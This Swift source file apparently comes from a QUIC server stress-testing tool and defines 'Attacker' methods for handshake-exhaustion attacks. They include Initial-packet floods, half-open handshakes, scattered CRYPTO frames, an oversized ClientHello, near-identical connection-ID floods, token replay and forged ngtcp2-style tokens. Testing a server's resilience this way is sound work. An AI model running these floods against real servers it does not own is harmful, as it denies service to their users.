import LoadModel
import PacketWriter
import QUICTransport

/// Attacks of clients that never complete their handshakes.
extension Attacker {
    private static let destinationBytes = 16
    private static let fewClients = 20

    private func makeWriter() -> InitialPacketWriter {
        InitialPacketWriter(destination: random(Self.destinationBytes), source: random(8))
    }

    func floodInitials() throws {
        let initial = try honestInitial()
        let sockets = try openSockets(256)
        try flood { number in
            sockets[number % sockets.count].send(initial.datagram(destination: random(Self.destinationBytes)))
        }
    }

    func beginHandshakes() throws {
        for socket in try openSockets(Self.fewClients) {
            var writer = makeWriter()
            socket.send(writer.datagram(HalfClientHello.frame))
        }
    }

    func sprayCrypto() throws {
        for socket in try openSockets(Self.fewClients) {
            var writer = makeWriter()
            for round in 0..<3 {
                socket.send(
                    writer.datagram((1...9).flatMap { Frame.crypto(offset: UInt64($0 * 8_000 - round), [0x55]) })
                )
            }
        }
    }

    func sendOversizedClientHello() throws {
        let announcedBytes = 60_000
        // RFC 8446 §4: the type client_hello and a length of three bytes; §4.1.2: the legacy version, then anything.
        let header: [UInt8] = [1, 0, UInt8(announcedBytes >> 8), UInt8(announcedBytes & 0xff), 3, 3]
        let hello = header + random(12_000 - header.count)
        for socket in try openSockets(Self.fewClients / 4) {
            var writer = makeWriter()
            for offset in stride(from: 0, to: hello.count, by: 1_000) {
                socket.send(
                    writer.datagram(Frame.crypto(offset: UInt64(offset), Array(hello[offset...].prefix(1_000))))
                )
                pause(.milliseconds(2))
            }
        }
    }

    func floodSimilarConnectionIDs() throws {
        let initial = try honestInitial()
        let sockets = try openSockets(64)
        let common = random(Self.destinationBytes)
        try flood { number in
            var destination = common
            for index in 0..<4 { destination[4 * index] = UInt8(truncatingIfNeeded: number >> (8 * index)) }
            sockets[number % sockets.count].send(initial.datagram(destination: destination))
        }
    }

    func replayToken() throws {
        let connection = try establish(settling: .milliseconds(300))
        guard let token = connection.heard.tokens.last else {
            throw Obstacle(description: "the server issued no token in a NEW_TOKEN frame")
        }
        close(connection)
        let initial = try honestInitial()
        for _ in 0..<200 {
            connection.socket.send(initial.datagram(destination: random(Self.destinationBytes), token: token))
            pause(.milliseconds(1))
        }
    }

    func forgeTokens() throws {
        let initial = try honestInitial()
        let sockets = try openSockets(16)
        // The forms of ngtcp2's tokens: those of a Retry, and those for a later connection.
        let kinds: [(first: UInt8, count: Int)] = [(0xb7, 90), (0x36, 58)]
        try flood { number in
            let kind = kinds[number % kinds.count]
            let token = [kind.first] + random(kind.count - 1)
            // As long as those our server gives in a Retry.
            let destination = random(TransportConfiguration.connectionIDLength)
            sockets[number % sockets.count].send(initial.datagram(destination: destination, token: token))
        }
    }
}
